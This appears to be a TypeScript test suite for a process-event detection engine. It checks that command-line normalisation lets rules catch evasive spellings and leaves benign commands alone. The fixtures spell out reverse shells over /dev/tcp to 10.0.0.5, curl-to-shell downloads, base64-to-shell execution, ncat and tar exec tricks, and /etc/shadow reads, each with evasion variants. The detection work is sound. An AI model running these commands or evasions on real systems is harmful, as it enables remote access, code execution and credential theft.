import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { canonicalArgs, canonicalCommand, canonicalLiteral, canonicalOption, canonicalPath } from '../../src/detect/canonical';
import { compileCondition, getter } from '../../src/detect/condition';
import { fieldView, inDocument } from '../../src/detect/match-window';
import { RuleIndex } from '../../src/detect/prefilter';
import { BUILTIN_RULES, loadRules } from '../../src/detect/rules';

const rules = loadRules([BUILTIN_RULES]).rules.filter((r) => r.enabled);
const processRules = new RuleIndex(rules.filter((r) => r.kinds.includes('process')));
/** A process start as the kernel collector documents it: argv as exec'd, the command line joined by spaces. */
const start = (argv: string[]) => ({
  data_stream: { dataset: 'dockward.process' },
  event: { type: ['start'] },
  process: { name: argv[0].split('/').pop(), args: argv, command_line: argv.join(' ') },
});
/** The rules that fire on the document, through the literal prefilter as the detector runs them. */
const fired = (doc: Record<string, unknown>) => inDocument(doc, () => processRules.candidates(doc).filter((r) => r.matches(doc)).map((r) => r.id));

describe('canonical spelling', () => {
  it('collapses repeated slashes and /./ in paths, but not the // of a URL', () => {
    assert.equal(canonicalPath('/dev//tcp/10.0.0.5/4444'), '/dev/tcp/10.0.0.5/4444');
    assert.equal(canonicalPath('/etc/././/shadow'), '/etc/shadow');
    assert.equal(canonicalPath('stratum+tcp://pool:3333//x'), 'stratum+tcp://pool:3333/x');
    // `..` is kept: resolving it would hide a traversal.
    assert.equal(canonicalPath('/var/www/../../etc/passwd'), '/var/www/../../etc/passwd');
  });

  it('drops quotes and in-word backslashes, collapses blank runs, keeps newlines, joins `>& 1`', () => {
    assert.equal(canonicalCommand(`c"ur"l\t -s  'http://10.0.0.5/x'`), 'curl -s http://10.0.0.5/x');
    assert.equal(canonicalCommand('w\\get -q x'), 'wget -q x');
    assert.equal(canonicalCommand('a  \n   b'), 'a\nb');
    assert.equal(canonicalCommand('bash -s >& /dev/tcp/h/1 0>& 1'), 'bash -s >& /dev/tcp/h/1 0>&1');
    assert.equal(canonicalCommand('curl x | $(which sh); wget y | `which bash`; z | $(command -v dash)'), 'curl x | sh; wget y | bash; z | dash');
  });

  it('splits --name=value and completes a GNU abbreviation from the command word it follows', () => {
    assert.equal(canonicalCommand('sh -c echo aWQ= | base64 --d | sh'), 'sh -c echo aWQ= | base64 --decode | sh');
    assert.equal(canonicalCommand('sudo -u www-data /usr/bin/base64 --deco x'), 'sudo -u www-data /usr/bin/base64 --decode x');
    assert.equal(canonicalCommand('ncat --ex=/bin/sh 10.0.0.5 4444'), 'ncat --exec /bin/sh 10.0.0.5 4444');
    assert.equal(canonicalCommand('tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-a=exec=sh'), 'tar -cf /dev/null /dev/null --checkpoint 1 --checkpoint-action exec=sh');
    // An ambiguous prefix (--s: --sh-exec, --ssl, --send-only, --source) stays as written, as getopt refuses it.
    assert.deepEqual(canonicalOption('--s', 'ncat'), ['--s']);
    // A program without a table: only the value is split off.
    assert.deepEqual(canonicalOption('--config=/etc/x.json', 'php-fpm'), ['--config', '/etc/x.json']);
    assert.deepEqual(canonicalOption('-e', 'nc'), ['-e']);
  });

  it('spells process.args element by element, with a shell -c script as a command line of its own', () => {
    assert.deepEqual(canonicalArgs(['ncat', '--ex=/bin/sh', '10.0.0.5']), ['ncat', '--exec', '/bin/sh', '10.0.0.5']);
    assert.deepEqual(canonicalArgs(['sh', '-c', 'echo x|base64  --d|sh']), ['sh', '-c', 'echo x|base64 --decode|sh']);
    assert.deepEqual(canonicalArgs(['/usr/bin/cat', '/etc//shadow']), ['/usr/bin/cat', '/etc/shadow']);
  });

  it('changes what rules see, not the document', () => {
    const doc = start(['cat', '/etc//shadow']);
    const view = fieldView(doc, 'process.command_line', getter('process.command_line'));
    assert.deepEqual(view.texts, ['cat /etc/shadow']);
    assert.equal(doc.process.command_line, 'cat /etc//shadow');
    assert.equal(view.length, 'cat /etc//shadow'.length);
  });

  it('spells a rule\'s literals as the text is spelled, so either spelling in a rule matches', () => {
    assert.equal(canonicalLiteral('process.command_line', '/etc//shadow'), '/etc/shadow');
    assert.equal(canonicalLiteral('file.path', '/root//.ssh/authorized_keys'), '/root/.ssh/authorized_keys');
    assert.equal(canonicalLiteral('message', 'a  b'), 'a  b');
    // A literal of quotes alone is kept: empty, it would match every text.
    assert.equal(canonicalLiteral('process.command_line', '""'), '""');
    const leaf = compileCondition({ field: 'process.command_line', contains: 'cat  /etc//shadow' }, { lists: {}, macros: {} });
    assert.equal(leaf(start(['cat', '/etc/shadow'])), true);
    assert.equal(leaf(start(['cat', '/etc/hostname'])), false);
  });

  it('costs one pass per field and document: a padded 60 KiB command line is spelled in bounded time', () => {
    const argv = ['bash', '-c', `${'  \t'.repeat(20_000)}bash -i >& /dev//tcp/10.0.0.5/4444 0>& 1`];
    const t0 = performance.now();
    for (let i = 0; i < 50; i++) fired(start(argv));
    const ms = (performance.now() - t0) / 50;
    assert.ok(ms < 20, `${ms.toFixed(2)} ms per document`);
    assert.ok(fired(start(argv)).includes('dockward-reverse-shell-dev-tcp'));
  });
});

/**
 * Review finding M1 and the evasions table of /work/shared/reviews/security.md: each spelling must
 * be caught by the rule it evaded (the plain spelling first, as the review ran them).
 */
describe('M1 evasions are caught by the rule they evaded', () => {
  const cases: Array<[rule: string, plain: string[], evasions: string[][]]> = [
    ['dockward-reverse-shell-dev-tcp', ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'], [
      ['bash', '-c', 'bash -i >& /dev//tcp/10.0.0.5/4444 0>&1'],
      ['bash', '-c', `${' '.repeat(17_000)}bash -i >& /dev/tcp/10.0.0.5/4444 0>&1`],
      ['bash', '-c', 'T=/dev/tcp; bash -i >& $T/10.0.0.5/4444 0>&1'],
      ['bash', '-c', 'exec bash -s >& /dev/tcp/10.0.0.5/4444 0>& 1'],
      ['bash', '-c', "'bash' -i >& /dev/./tcp/10.0.0.5/4444 0>&1"],
    ]],
    ['dockward-download-exec', ['sh', '-c', 'curl -s http://10.0.0.5/x.sh | sh'], [
      ['sh', '-c', 'curl -s http://10.0.0.5/x.sh | /bin/sh'],
      ['sh', '-c', 'curl -s http://10.0.0.5/x.sh | $(which sh)'],
      ['sh', '-c', 'curl -s http://10.0.0.5/x.py | python3'],
      ['sh', '-c', 'c"ur"l -s http://10.0.0.5/x.sh   |\tsh'],
    ]],
    ['dockward-base64-exec', ['sh', '-c', 'echo aWQ= | base64 -d | sh'], [
      ['sh', '-c', 'echo aWQ= | base64 --d | sh'],
      ['sh', '-c', 'echo aWQ= | base64 --dec | sh'],
      ['sh', '-c', 'echo aWQ= | base64 -d | env bash'],
      ['sh', '-c', 'echo aWQ= | base64 -di | /bin/sh'],
    ]],
    ['dockward-credential-search', ['cat', '/etc/shadow'], [
      ['cat', '/etc//shadow'],
      ['cat', '/etc/./shadow'],
      ['sh', '-c', 'cd /etc && cat shadow'],
      ['cat', '/etc/sh*dow'],
      ['cat', "/etc/'shadow'"],
    ]],
  ];
  for (const [rule, plain, evasions] of cases) {
    it(`${rule}: ${evasions.length} spellings`, () => {
      assert.ok(fired(start(plain)).includes(rule), `${rule} on the plain spelling ${plain.join(' ')}`);
      for (const argv of evasions) {
        const shown = argv.join(' ').replace(/ {20,}/, ' <padding> ');
        assert.ok(fired(start(argv)).includes(rule), `${rule} on ${shown}: fired ${fired(start(argv)).join(', ') || 'nothing'}`);
      }
    });
  }

  it('ordinary commands stay quiet under the same rules', () => {
    for (const argv of [
      ['sh', '-c', 'curl -s http://127.0.0.1:8080/health | python3 -m json.tool'],
      ['sh', '-c', 'base64 -d cert.b64 > cert.pem'],
      ['cat', '/etc/hostname'],
      ['cat', '/etc/os-release'],
      ['sh', '-c', 'exec 3<>/dev/tcp/127.0.0.1/5432 && echo ok'],
    ]) {
      const hits = fired(start(argv)).filter((id) => ['dockward-reverse-shell-dev-tcp', 'dockward-download-exec', 'dockward-base64-exec', 'dockward-credential-search'].includes(id));
      assert.deepEqual(hits, [], argv.join(' '));
    }
  });
});
